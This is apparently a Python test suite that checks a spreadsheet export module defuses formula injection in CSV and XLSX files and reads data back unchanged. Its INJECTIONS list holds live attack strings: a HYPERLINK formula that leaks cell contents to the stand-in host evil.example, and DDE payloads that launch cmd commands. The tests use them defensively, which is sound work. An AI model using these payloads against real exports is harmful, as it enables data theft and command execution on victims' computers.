"""CSV and XLSX exports are safe to open in a spreadsheet (no cell runs as a formula) and read
back exactly as written."""

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from spreadsheets import csv_read, csv_write, neutralise, restore, xlsx_read, xlsx_write

# The examples: a category and a zone named to run when the export is opened.
INJECTIONS = ["=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")",
              "@SUM(1+9)*cmd|' /C calc'!A0", "+1+1", "-2+3+cmd|' /C notepad'!'A1'",
              "\t=1+1", "\r=1+1"]
TEXT = st.text(st.characters(exclude_categories=["Cs"]), max_size=30)
CELL = st.one_of(TEXT, st.sampled_from(INJECTIONS), st.integers(-10**18, 10**18), st.none())
ROWS = st.lists(st.lists(CELL, min_size=1, max_size=6), max_size=8)


def as_texts(rows):
    return [["" if v is None else str(v) for v in row] for row in rows]


def without_trailing_empties(rows):
    rows = [list(row) for row in rows]
    for row in rows:
        while row and row[-1] == "":
            row.pop()
    while rows and rows[-1] == []:
        rows.pop()
    return rows


@pytest.mark.parametrize("text", INJECTIONS)
def test_a_formula_is_written_as_text(text):
    assert neutralise(text) == "'" + text
    row = next(csv.reader(io.StringIO(csv_write([[text]]), newline="")))
    assert row == ["'" + text]


def test_the_xlsx_cell_is_text_and_neutralised(tmp_path):
    path = tmp_path / "export.xlsx"
    path.write_bytes(xlsx_write([INJECTIONS]))
    cells = next(load_workbook(path).active.iter_rows())
    assert [c.data_type for c in cells] == ["s"] * len(INJECTIONS)
    assert all(c.value.startswith("'") for c in cells)


def test_plain_texts_and_numbers_are_left_alone():
    assert csv_write([["Catégorie 1", "B1", 201, None, -5]]) == "Catégorie 1;B1;201;;-5\n"


def test_excel_flavour_has_a_bom_and_is_read_back():
    text = csv_write([["kind", "code"], ["zone", "=1"]], bom=True, lineterminator="\r\n")
    assert text.startswith("\ufeffkind;code\r\n")
    assert list(csv_read(text.encode())) == [(1, ["kind", "code"]), (2, ["zone", "=1"])]


def test_the_separator_is_found_and_line_numbers_count_broken_lines():
    text = 'kind,label\nzone,"two\nlines"\ncategory,x\n'
    assert list(csv_read(text)) == [(1, ["kind", "label"]), (3, ["zone", "two\nlines"]),
                                    (4, ["category", "x"])]


def test_a_hand_typed_leading_quote_is_excels_text_marker():
    assert restore("'=1+1") == "=1+1" and restore("'007") == "007" and restore("B1") == "B1"


@given(text=TEXT)
def test_restore_undoes_neutralise(text):
    assert restore(neutralise(text)) == text
    assert not neutralise(text).startswith(("=", "+", "-", "@", "\t", "\r"))


@given(rows=ROWS, delimiter=st.sampled_from([";", ","]), bom=st.booleans(),
       lineterminator=st.sampled_from(["\n", "\r\n"]))
def test_csv_reads_back_what_it_wrote(rows, delimiter, bom, lineterminator):
    text = csv_write(rows, delimiter=delimiter, bom=bom, lineterminator=lineterminator)
    assert [cells for _, cells in csv_read(text, delimiter=delimiter)] == as_texts(rows)


@settings(max_examples=40, deadline=None)
@given(rows=ROWS)
def test_xlsx_reads_back_what_it_wrote(rows):
    read = [cells for _, cells in xlsx_read(xlsx_write(rows))]
    assert without_trailing_empties(read) == without_trailing_empties(as_texts(rows))


def test_a_cell_longer_than_a_spreadsheet_keeps_is_refused():
    with pytest.raises(ValueError, match="32767"):
        xlsx_write([["x" * 40000]])
